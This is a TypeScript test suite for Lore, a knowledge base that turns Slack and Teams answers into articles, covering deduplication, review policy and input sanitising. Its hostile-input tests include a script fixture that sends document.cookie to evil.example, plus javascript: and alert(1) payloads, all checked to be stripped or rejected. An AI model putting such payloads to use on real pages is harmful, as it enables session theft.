import { Editors } from '../../src/capture/capture-policy';
import type { CaptureRequest, CaptureResult } from '../../src/capture/capturer';
import { ManualClock } from '../../src/clock';
import { isLoreError, type LoreErrorCode } from '../../src/errors';
import type { Article } from '../../src/knowledge/article';
import type { Lore } from '../../src/lore';
import { searchIds, seed } from '../helpers/articles';
import { START, useSandbox } from '../helpers/sandbox';

/**
 * Capture as the whole program wires it (openLore): duplicates found by the ranker, the
 * review policy and editors, and captures answered through the same front door as chat.
 */

const SLACK = { workspace: '', platform: 'slack' } as const;
const HOUR = 60 * 60 * 1000;

const BICYCLE: CaptureRequest = {
  ...SLACK,
  question: 'How do I borrow a company bicycle?',
  answer: 'Ask **reception** for a bike key; the bikes are in the basement.',
  answerAuthor: 'grace',
  capturedBy: 'ada',
  sourceUrl: 'https://example.slack.com/archives/C1/p123',
};

/** A question the seeded "Submit an expense claim" article already answers, in other words. */
const EXPENSES: CaptureRequest = {
  ...SLACK,
  question: 'How can I claim back my expenses?',
  answer: 'Keep the receipts and file them in the Expenses app within 30 days.',
  answerAuthor: 'grace',
  capturedBy: 'ada',
  sourceUrl: 'https://example.slack.com/archives/C1/p456',
};

function capturesOf(lore: Lore) {
  return lore.db.prepare('SELECT article_id, action, question, captured_by FROM captures ORDER BY id').all();
}

/** What a capture left behind: everything a silent write would change. */
function snapshot(lore: Lore, id: string) {
  return { count: lore.knowledge.articles.count(), article: lore.knowledge.get(id), revisions: lore.knowledge.articles.revisions(id), captures: capturesOf(lore) };
}

function ask(lore: Lore, question: string, workspace = '') {
  return lore.answerer.ask(question, { workspace, platform: 'slack' });
}

function errorOf(work: () => unknown): unknown {
  try {
    work();
  } catch (error) {
    return error;
  }
  throw new Error('expected the call to throw');
}

function expectLoreError(work: () => unknown, code: LoreErrorCode, message?: RegExp): void {
  const error = errorOf(work);
  expect(isLoreError(error, code)).toBe(true);
  if (message) expect((error as Error).message).toMatch(message);
}

/** The article of a capture that wrote one (not a duplicate offer). */
function written(result: CaptureResult): Article {
  expect(result.action).not.toBe('duplicate');
  return result.article;
}

/** Text that could notify people in Slack or Teams, in any of the forms Lore must never save. */
const PING = /<!|<@|@(?:here|channel|everyone)\b/i;

describe('capture through openLore', () => {
  const sandbox = useSandbox();

  describe('a captured answer', () => {
    it('is found by the next question that asks the same thing in other words, with its author and source', () => {
      const lore = sandbox.openLore();
      seed(lore);
      const paraphrase = 'can staff borrow bicycles?';
      expect(ask(lore, paraphrase).decision).toBe('abstain');

      const article = written(lore.capturer.capture(BICYCLE));
      expect(lore.knowledge.get(article.id)).toMatchObject({ author: 'grace', owner: 'ada', sourceUrl: BICYCLE.sourceUrl, status: 'published' });

      const reply = ask(lore, paraphrase);
      expect(reply.decision).toBe('answer');
      expect(reply.results[0]).toMatchObject({ id: article.id, title: 'How do I borrow a company bicycle?', author: 'grace', sourceUrl: BICYCLE.sourceUrl });
    });

    it('keeps the answer as written when it is Markdown, and records who captured it', () => {
      const lore = sandbox.openLore();
      const article = written(lore.capturer.capture(BICYCLE));
      expect(article.body).toBe(BICYCLE.answer);
      expect(capturesOf(lore)).toEqual([{ article_id: article.id, action: 'created', question: 'How do I borrow a company bicycle?', captured_by: 'ada' }]);
    });
  });

  describe('a question that is already answered', () => {
    it('is offered as a duplicate by default, with the cleaned title and answer, and nothing is written', () => {
      const lore = sandbox.openLore();
      seed(lore);
      const before = snapshot(lore, 'expense-claim');

      const result = lore.capturer.capture({ ...EXPENSES, format: 'slack', question: '<!here> how can I claim back my expenses? thanks!', answer: '<!channel> Keep the *receipts*.' });

      expect(result).toEqual({
        action: 'duplicate',
        article: expect.objectContaining({ id: 'expense-claim' }),
        confidence: expect.any(Number),
        title: 'How can I claim back my expenses?',
        answer: 'Keep the **receipts**.',
      });
      expect(result.action === 'duplicate' && result.confidence).toBeGreaterThanOrEqual(0.8);
      expect(snapshot(lore, 'expense-claim')).toEqual(before);
    });

    it('with merge, gets the question as an alternate question of that article instead of a near-copy', () => {
      const lore = sandbox.openLore();
      seed(lore);
      const before = snapshot(lore, 'expense-claim');

      const result = lore.capturer.capture({ ...EXPENSES, onDuplicate: 'merge' });

      expect(result).toMatchObject({ action: 'merged', repeated: false, article: { id: 'expense-claim' } });
      const article = lore.knowledge.get('expense-claim')!;
      expect(article.questions).toContainEqual({ text: 'How can I claim back my expenses?', origin: 'merged', weight: 1 });
      expect(article.body).toBe(before.article!.body);
      expect(lore.knowledge.articles.count()).toBe(before.count);
      expect(capturesOf(lore)).toEqual([{ article_id: 'expense-claim', action: 'merged', question: 'How can I claim back my expenses?', captured_by: 'ada' }]);
      expect(ask(lore, 'How can I claim back my expenses?').results[0]?.id).toBe('expense-claim');
    });

    it('with mergeInto, merges into the article chosen, which then answers that phrasing first', () => {
      const lore = sandbox.openLore();
      seed(lore);
      const phrasing = 'Can I get reimbursed for a cab ride?';
      expect(ask(lore, phrasing).results[0]?.id).not.toBe('expense-claim');
      const count = lore.knowledge.articles.count();

      const result = lore.capturer.capture({ ...EXPENSES, question: phrasing, mergeInto: 'expense-claim' });

      expect(result).toMatchObject({ action: 'merged', article: { id: 'expense-claim' } });
      expect(lore.knowledge.get('expense-claim')!.questions).toContainEqual({ text: phrasing, origin: 'merged', weight: 1 });
      expect(lore.knowledge.articles.count()).toBe(count);
      const reply = ask(lore, phrasing);
      expect(reply.decision).toBe('answer');
      expect(reply.results[0]?.id).toBe('expense-claim');
    });

    it('with append, also adds the answer as a new section, credited, and records the change as a revision', () => {
      const clock = new ManualClock(START);
      const lore = sandbox.openLore({ clock });
      seed(lore);
      const before = snapshot(lore, 'expense-claim');
      clock.advance(HOUR);

      const result = lore.capturer.capture({ ...EXPENSES, onDuplicate: 'append', capturedBy: 'bob' });

      expect(result).toMatchObject({ action: 'merged', article: { id: 'expense-claim' } });
      const article = lore.knowledge.get('expense-claim')!;
      expect(article.body.startsWith(before.article!.body)).toBe(true);
      expect(article.body).toContain(`## How can I claim back my expenses?\n\n${EXPENSES.answer}`);
      expect(article.body).toContain(`_Answer by grace ([source](${EXPENSES.sourceUrl}))._`);
      expect(article.questions).toContainEqual({ text: 'How can I claim back my expenses?', origin: 'merged', weight: 1 });
      expect(article.revision).toBe(before.article!.revision + 1);
      expect(lore.knowledge.articles.revisions('expense-claim')).toEqual([
        ...before.revisions,
        expect.objectContaining({ revision: article.revision, body: article.body, editedBy: 'bob', editedAt: START + HOUR, reason: 'capture: answer appended' }),
      ]);
      expect(lore.knowledge.articles.count()).toBe(before.count);
      // The appended words are searchable as part of the article.
      expect(searchIds(lore, 'receipts within 30 days')).toContain('expense-claim');
    });

    it('with new, makes a separate article and leaves the existing one alone', () => {
      const lore = sandbox.openLore();
      seed(lore);
      const before = snapshot(lore, 'expense-claim');

      const article = written(lore.capturer.capture({ ...EXPENSES, onDuplicate: 'new' }));

      expect(article.id).not.toBe('expense-claim');
      expect(article).toMatchObject({ title: 'How can I claim back my expenses?', body: EXPENSES.answer, status: 'published' });
      expect(lore.knowledge.articles.count()).toBe(before.count + 1);
      expect(lore.knowledge.get('expense-claim')).toEqual(before.article);
    });

    it.each(['ask', 'merge', 'append'] as const)('never makes a second article with onDuplicate %s', (onDuplicate) => {
      const lore = sandbox.openLore();
      seed(lore);
      const count = lore.knowledge.articles.count();
      const result = lore.capturer.capture({ ...EXPENSES, onDuplicate });
      expect(result.article.id).toBe('expense-claim');
      expect(lore.knowledge.articles.count()).toBe(count);
    });

    it('refuses to merge into an article that does not exist or belongs to another workspace', () => {
      const lore = sandbox.openLore();
      seed(lore);
      seed(lore, [{ id: 't2-bikes', title: 'Borrow a company bicycle', body: 'Ask reception.' }], 'T2');
      const before = snapshot(lore, 't2-bikes');

      expectLoreError(() => lore.capturer.capture({ ...BICYCLE, mergeInto: 'no-such-article' }), 'NOT_FOUND');
      expectLoreError(() => lore.capturer.capture({ ...BICYCLE, workspace: 'T1', mergeInto: 't2-bikes' }), 'NOT_FOUND');
      expect(snapshot(lore, 't2-bikes')).toEqual(before);
    });

    it('refuses to merge into a discarded article, where the capture would never be found', () => {
      const lore = sandbox.openLore({ capturePolicy: 'review', editors: new Editors(['slack:U9']) });
      const draft = written(lore.capturer.capture({ ...BICYCLE, capturedBy: 'U1' }));
      lore.capturer.discard(draft.id, 'U9', 'slack');
      const before = snapshot(lore, draft.id);

      expectLoreError(() => lore.capturer.capture({ ...EXPENSES, capturedBy: 'U9', mergeInto: draft.id }), 'INVALID_INPUT', /archived/);
      expect(snapshot(lore, draft.id)).toEqual(before);
    });

    it('refuses an appended answer that would make the article too long, and leaves the article as it was', () => {
      const lore = sandbox.openLore();
      seed(lore, [{ id: 'long-guide', title: 'The long onboarding guide', body: 'Read this first. '.repeat(9_000) }]);
      const before = snapshot(lore, 'long-guide');

      const answer = 'Then read this. '.repeat(4_000);
      expectLoreError(
        () => lore.capturer.capture({ ...EXPENSES, answer, mergeInto: 'long-guide', onDuplicate: 'append' }),
        'INVALID_INPUT',
        /too long|at most/,
      );
      expect(snapshot(lore, 'long-guide')).toEqual(before);
    });
  });

  describe('hostile input', () => {
    const names = (id: string) => ({ U123: 'Grace Hopper', U9: 'Ada Lovelace' })[id];

    it('turns Slack broadcasts and mentions into text that pings nobody, mentions as names', () => {
      const lore = sandbox.openLore();
      const article = written(
        lore.capturer.capture({
          ...SLACK,
          format: 'slack',
          names,
          question: '<!channel> <!here> how do I get a visitor badge? cc <@U9>',
          answer: '<!here> Ask <@U123> at the front desk, or <@U777|bob> in <#C42|it-help>. <!channel>',
        }),
      );
      const saved = lore.knowledge.get(article.id)!;
      expect(saved.title).toBe('How do I get a visitor badge? cc Ada Lovelace');
      expect(saved.body).toBe('Ask Grace Hopper at the front desk, or bob in #it-help.');
      expect(saved.title).not.toMatch(PING);
      expect(saved.body).not.toMatch(PING);
    });

    it('writes an unknown Slack user as "someone", never as a mention', () => {
      const lore = sandbox.openLore();
      const article = written(lore.capturer.capture({ ...BICYCLE, format: 'slack', names, answer: 'Ask <@U404> for the key.' }));
      expect(article.body).toBe('Ask someone for the key.');
    });

    it('keeps a 40,000-character answer whole, converted and without pings', () => {
      const lore = sandbox.openLore();
      const lines = Array.from({ length: 800 }, (_, i) => `Step ${i + 1}: *restart* the router <!here> and wait.`);
      const answer = lines.join('\n').padEnd(40_000, ' more');
      expect(answer.length).toBe(40_000);

      const article = written(lore.capturer.capture({ ...BICYCLE, format: 'slack', answer }));

      expect(article.body).not.toMatch(PING);
      expect(article.body.split('\n')).toHaveLength(800);
      expect(article.body.startsWith('Step 1: **restart** the router and wait.\nStep 2: **restart** the router and wait.')).toBe(true);
      expect(article.body).toContain('Step 800: **restart** the router and wait.');
      expect(article.body.length).toBeGreaterThan(35_000);
      expect(lore.knowledge.get(article.id)!.body).toBe(article.body);
    });

    it('rejects an answer over 100,000 characters with a message that says so, and writes nothing', () => {
      const lore = sandbox.openLore();
      const answer = 'Restart the router. '.repeat(5_001);
      expect(answer.length).toBeGreaterThan(100_000);
      expectLoreError(() => lore.capturer.capture({ ...BICYCLE, answer }), 'INVALID_INPUT', /The answer is \d+ characters; an article holds at most 100000\. Capture a shorter message/);
      expect(lore.knowledge.articles.count()).toBe(0);
      expect(capturesOf(lore)).toEqual([]);
    });

    it.each([
      ['empty', 'markdown', ''],
      ['whitespace only', 'markdown', ' \n\t  \n'],
      ['only a broadcast', 'slack', '  <!channel>  <!here> '],
      ['only a script', 'teams-html', '<p>&nbsp;</p><script>alert(1)</script>'],
    ] as const)('rejects an answer that is %s with INVALID_INPUT', (_what, format, answer) => {
      const lore = sandbox.openLore();
      expectLoreError(() => lore.capturer.capture({ ...BICYCLE, format, answer }), 'INVALID_INPUT', /no answer/);
      expect(lore.knowledge.articles.count()).toBe(0);
      expect(capturesOf(lore)).toEqual([]);
    });

    it('keeps a Slack code block verbatim, mrkdwn inside it untouched, while the text around it is converted', () => {
      const lore = sandbox.openLore();
      const code = 'if (*ptr && _flag_) { ~x~; } // *not bold*';
      const article = written(lore.capturer.capture({ ...BICYCLE, format: 'slack', answer: `Run *this*:\n\`\`\`\n${code}\n\`\`\`\nthen _restart_.` }));
      expect(article.body).toBe(`Run **this**:\n\`\`\`\n${code}\n\`\`\`\nthen *restart*.`);
    });

    it('drops scripts from Teams HTML and writes <at> mentions as names', () => {
      const lore = sandbox.openLore();
      const article = written(
        lore.capturer.capture({
          ...SLACK,
          platform: 'teams',
          format: 'teams-html',
          question: '<p><at>Lore</at> how do I reset my token?</p>',
          answer: '<p>Hi <at>Grace Hopper</at>, run <b>reset</b></p><script>fetch("https://evil.example/?c=" + document.cookie)</script><p>done</p>',
        }),
      );
      expect(article.title).toBe('How do I reset my token?');
      expect(article.body).toBe('Hi Grace Hopper, run **reset**\n\ndone');
      expect(article.body).not.toMatch(/script|evil|cookie|<at>/i);
    });

    it('preserves right-to-left text, bidi marks and emoji', () => {
      const lore = sandbox.openLore();
      const question = 'كيف أعيد تعيين 🔑 كلمة المرور؟';
      const answer = 'اذهب إلى صفحة كلمة المرور 👍🏽 👨‍👩‍👧 \u200fשלום עולם\u200f ✅';
      const article = written(lore.capturer.capture({ ...BICYCLE, question, answer }));
      expect(lore.knowledge.get(article.id)).toMatchObject({ title: question, body: answer });
    });

    it('titles the article from the question without the bot name, greeting or thanks', () => {
      const lore = sandbox.openLore();
      const article = written(lore.capturer.capture({ ...BICYCLE, question: '@lore hi team, how do I reset my VPN token? thanks!' }));
      expect(article.title).toBe('How do I reset my VPN token?');
    });

    it('removes the bot names it is given, and takes an edited title as written but without pings', () => {
      const lore = sandbox.openLore();
      const named = written(lore.capturer.capture({ ...BICYCLE, question: '@helpbot hey all, where is the printer?? ty', botNames: ['helpbot'] }));
      expect(named.title).toBe('Where is the printer?');
      const edited = written(lore.capturer.capture({ ...EXPENSES, title: '  Expense   claims <!here> for @channel taxis ', onDuplicate: 'new' }));
      expect(edited.title).toBe('Expense claims for taxis');
    });

    it('rejects a source that is not an absolute web link before writing anything, even when merging', () => {
      const lore = sandbox.openLore();
      seed(lore);
      const before = snapshot(lore, 'expense-claim');
      for (const sourceUrl of ['not a url', '/archives/C1/p1', 'javascript:alert(1)']) {
        expectLoreError(() => lore.capturer.capture({ ...BICYCLE, sourceUrl }), 'INVALID_INPUT', /source/i);
        expectLoreError(() => lore.capturer.capture({ ...EXPENSES, sourceUrl, onDuplicate: 'append' }), 'INVALID_INPUT', /source/i);
      }
      expect(snapshot(lore, 'expense-claim')).toEqual(before);
    });
  });

  describe('under the review policy', () => {
    const EDITORS = ['slack:U9'];

    function openReview(clock = new ManualClock(START)) {
      const lore = sandbox.openLore({ clock, capturePolicy: 'review', editors: new Editors(EDITORS) });
      seed(lore);
      return lore;
    }

    it("keeps a non-editor's capture as a draft: listed for review, never answered", () => {
      const lore = openReview();
      const result = lore.capturer.capture({ ...BICYCLE, capturedBy: 'U1' });

      expect(result).toMatchObject({ action: 'draft', repeated: false, article: { status: 'draft', author: 'grace', owner: 'U1' } });
      expect(lore.capturer.drafts().map((draft) => draft.id)).toEqual([result.article.id]);
      expect(lore.capturer.drafts('').map((draft) => draft.id)).toEqual([result.article.id]);
      expect(lore.capturer.drafts('T1')).toEqual([]);
      for (const question of [BICYCLE.question, 'can staff borrow bicycles?']) {
        const reply = ask(lore, question);
        expect(reply.decision).toBe('abstain');
        expect(reply.results.map((r) => r.id)).not.toContain(result.article.id);
      }
      expect(capturesOf(lore)).toEqual([expect.objectContaining({ article_id: result.article.id, action: 'draft', captured_by: 'U1' })]);
    });

    it.each([
      ['an editor id on another platform', 'U9', 'teams'],
      ['nobody in particular', null, 'slack'],
    ])('drafts a capture by %s', (_who, capturedBy, platform) => {
      const lore = openReview();
      expect(lore.capturer.capture({ ...BICYCLE, platform, capturedBy }).action).toBe('draft');
    });

    it("publishes an editor's capture at once", () => {
      const lore = openReview();
      const result = lore.capturer.capture({ ...BICYCLE, capturedBy: 'U9' });
      expect(result).toMatchObject({ action: 'created', article: { status: 'published' } });
      expect(lore.capturer.drafts()).toEqual([]);
      expect(ask(lore, 'can staff borrow bicycles?').results[0]?.id).toBe(result.article.id);
    });

    it('takes an editor as a bare id on every platform, or as platform:id on that one (LORE_EDITORS)', () => {
      const lore = sandbox.openLore({ capturePolicy: 'review', editors: Editors.parse('U7, teams:U8') });
      const actionOf = (capturedBy: string, platform: string) => lore.capturer.capture({ ...BICYCLE, capturedBy, platform, onDuplicate: 'new' }).action;
      expect(actionOf('U7', 'slack')).toBe('created');
      expect(actionOf('U7', 'teams')).toBe('created');
      expect(actionOf('U8', 'teams')).toBe('created');
      expect(actionOf('U8', 'slack')).toBe('draft');
      expect(actionOf('U9', 'slack')).toBe('draft');
    });

    it('treats the operator at the command line as an editor', () => {
      const lore = openReview();
      expect(lore.capturer.capture({ ...BICYCLE, platform: 'cli', capturedBy: null }).action).toBe('created');
    });

    it("never lets a non-editor's capture change a published article: a duplicate becomes a draft", () => {
      const lore = openReview();
      const before = snapshot(lore, 'expense-claim');
      const result = lore.capturer.capture({ ...EXPENSES, capturedBy: 'U1', onDuplicate: 'append' });
      expect(result).toMatchObject({ action: 'draft', article: { status: 'draft' } });
      expect(result.article.id).not.toBe('expense-claim');
      expect(lore.knowledge.get('expense-claim')).toEqual(before.article);
    });

    it('lets only editors publish; a published draft is answerable and its history says who and when', () => {
      const clock = new ManualClock(START);
      const lore = openReview(clock);
      const draft = written(lore.capturer.capture({ ...BICYCLE, capturedBy: 'U1' }));
      clock.advance(HOUR);

      expectLoreError(() => lore.capturer.publish(draft.id, 'U1', 'slack'), 'INVALID_INPUT', /Only editors can publish/);
      expectLoreError(() => lore.capturer.publish(draft.id, 'U9', 'teams'), 'INVALID_INPUT', /Only editors/);
      expectLoreError(() => lore.capturer.publish(draft.id, null, 'slack'), 'INVALID_INPUT', /Only editors/);
      expect(lore.knowledge.get(draft.id)!.status).toBe('draft');

      const published = lore.capturer.publish(draft.id, 'U9', 'slack');

      expect(published).toMatchObject({ id: draft.id, status: 'published' });
      expect(lore.capturer.drafts()).toEqual([]);
      const reply = ask(lore, 'can staff borrow bicycles?');
      expect(reply.decision).toBe('answer');
      expect(reply.results[0]).toMatchObject({ id: draft.id, author: 'grace', sourceUrl: BICYCLE.sourceUrl });
      expect(lore.knowledge.articles.revisions(draft.id)).toEqual([
        expect.objectContaining({ revision: 1, status: 'draft', editedBy: 'U1', editedAt: START, reason: 'capture' }),
        expect.objectContaining({ revision: 2, status: 'published', editedBy: 'U9', editedAt: START + HOUR, reason: 'publish' }),
      ]);
    });

    it('publishes and discards only drafts, and says when the id is unknown', () => {
      const lore = openReview();
      expectLoreError(() => lore.capturer.publish('expense-claim', 'U9', 'slack'), 'INVALID_INPUT', /not a draft/);
      expectLoreError(() => lore.capturer.discard('expense-claim', 'U9', 'slack'), 'INVALID_INPUT', /not a draft/);
      expectLoreError(() => lore.capturer.publish('no-such-draft', 'U9', 'slack'), 'NOT_FOUND', /lore drafts/);
      expect(lore.knowledge.get('expense-claim')!.status).toBe('published');
    });

    it('discards a draft by archiving it: never searchable, its text and every change kept in the history', () => {
      const clock = new ManualClock(START);
      const lore = openReview(clock);
      const draft = written(lore.capturer.capture({ ...BICYCLE, capturedBy: 'U1' }));
      const count = lore.knowledge.articles.count();
      clock.advance(2 * HOUR);

      expectLoreError(() => lore.capturer.discard(draft.id, 'U1', 'slack'), 'INVALID_INPUT', /Only editors can discard/);
      const discarded = lore.capturer.discard(draft.id, 'U9', 'slack');

      expect(discarded).toMatchObject({ id: draft.id, status: 'archived' });
      expect(lore.capturer.drafts()).toEqual([]);
      expect(lore.knowledge.articles.count()).toBe(count - 1);
      expect(searchIds(lore, BICYCLE.question)).not.toContain(draft.id);
      expect(ask(lore, BICYCLE.question).results.map((r) => r.id)).not.toContain(draft.id);
      expect(() => lore.capturer.publish(draft.id, 'U9', 'slack')).toThrow(/not a draft/);
      expect(lore.knowledge.articles.revisions(draft.id)).toEqual([
        { revision: 1, title: BICYCLE.question, body: BICYCLE.answer, tags: [], status: 'draft', editedBy: 'U1', editedAt: START, reason: 'capture' },
        { revision: 2, title: BICYCLE.question, body: BICYCLE.answer, tags: [], status: 'archived', editedBy: 'U9', editedAt: START + 2 * HOUR, reason: 'discard' },
      ]);
    });
  });

  describe('attribution', () => {
    it('records every change to an article as a revision with who made it, when and why', () => {
      const clock = new ManualClock(START);
      const lore = sandbox.openLore({ clock });
      seed(lore);
      const created = written(lore.capturer.capture({ ...BICYCLE, capturedBy: 'ada' }));
      clock.advance(HOUR);
      lore.capturer.capture({ ...BICYCLE, answer: 'The bikes have lights for the winter.', capturedBy: 'bob', answerAuthor: 'carol', onDuplicate: 'append' });

      const revisions = lore.knowledge.articles.revisions(created.id);
      expect(revisions.map(({ revision, editedBy, editedAt, reason }) => ({ revision, editedBy, editedAt, reason }))).toEqual([
        { revision: 1, editedBy: 'ada', editedAt: START, reason: 'capture' },
        { revision: 2, editedBy: 'bob', editedAt: START + HOUR, reason: 'capture: answer appended' },
      ]);
      expect(revisions[0]!.body).toBe(BICYCLE.answer);
      expect(revisions[1]!.body).toContain('The bikes have lights for the winter.\n\n_Answer by carol');
      // The article stays credited to whoever answered first; the appended answer carries its own credit.
      expect(lore.knowledge.get(created.id)).toMatchObject({ author: 'grace', owner: 'ada' });
    });

    it('credits the person who answered, falling back to them as owner when nobody else captured it', () => {
      const lore = sandbox.openLore();
      const article = written(lore.capturer.capture({ ...BICYCLE, capturedBy: null }));
      expect(article).toMatchObject({ author: 'grace', owner: 'grace' });
      expect(lore.knowledge.articles.revisions(article.id)[0]).toMatchObject({ editedBy: null, reason: 'capture' });
    });
  });

  it('keeps the same article for a repeated submission of the same message, whatever the policy', () => {
    const lore = sandbox.openLore({ capturePolicy: 'review', editors: new Editors(['slack:U9']) });
    const first = lore.capturer.capture({ ...BICYCLE, capturedBy: 'U1', dedupeKey: 'slack:C1:1' });
    const again = lore.capturer.capture({ ...BICYCLE, capturedBy: 'U1', dedupeKey: 'slack:C1:1' });
    expect(again).toMatchObject({ action: 'draft', repeated: true, article: { id: first.article.id } });
    expect(lore.capturer.drafts()).toHaveLength(1);
    expect(capturesOf(lore)).toHaveLength(1);
  });
});
